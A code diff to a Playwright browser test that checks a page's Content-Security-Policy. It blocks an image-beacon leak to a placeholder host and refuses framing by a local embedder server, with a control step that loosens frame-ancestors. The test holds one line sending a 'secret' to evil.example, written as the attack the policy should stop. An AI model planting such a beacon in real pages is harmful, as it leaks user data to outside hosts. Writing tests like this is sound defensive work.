@@ -1,5 +1,7 @@
 import { execFile } from 'node:child_process'
 import { rm, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { promisify } from 'node:util'
 import type { Page } from '@playwright/test'
 import type { EgressManifest } from 'portico/plugin'
@@ -58,17 +60,30 @@ test('keeps strangers from embedding the page, and scripts from telling stranger
       new Image().src = 'https://evil.example/?secret'
     })
   expect(await page.evaluate(leak)).toBe('img-src')
-  const embedder = 'http://embedder.example/'
-  await page.route(embedder, (route) =>
-    route.fulfill({ contentType: 'text/html', body: `<!doctype html><iframe src="${url}"></iframe>` }),
-  )
-  await page.goto(embedder)
+  const embedder = createServer((_, response) => {
+    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><iframe src="${url}"></iframe>`)
+  })
+  await new Promise<void>((resolve) => embedder.listen(0, '127.0.0.1', resolve))
+  const embed = () => page.goto(`http://127.0.0.1:${(embedder.address() as AddressInfo).port}/`)
+  const inside = page.frameLocator('iframe').getByRole('button', { name: 'Come in' })
+  // Nothing but the directive keeps the page from the frame.
+  await page.route(url, async (route) => {
+    const response = await route.fetch()
+    const headers = response.headers()
+    const policy = headers[HEADER]?.replace(/frame-ancestors [^;]*/, 'frame-ancestors *') ?? ''
+    await route.fulfill({ response, headers: { ...headers, [HEADER]: policy } })
+  })
+  await embed()
+  await expect(inside).toBeVisible()
+  await page.unroute(url)
+  await embed()
   // Chromium shows a page of its own in the frame, and Firefox reports the directive.
   const isRefused = () =>
     page.frames()[1]?.url().startsWith('chrome-error:') ||
     watched.problems.some((problem) => problem.includes('frame-ancestors'))
   await expect.poll(isRefused).toBe(true)
-  await expect(page.frameLocator('iframe').getByRole('button', { name: 'Come in' })).toHaveCount(0)
+  await expect(inside).toHaveCount(0)
+  await new Promise((resolve) => embedder.close(resolve))
   // Browsers report the picture, the frame and their own error page in words of their own.
   watched.expectProblem(/./)
 })
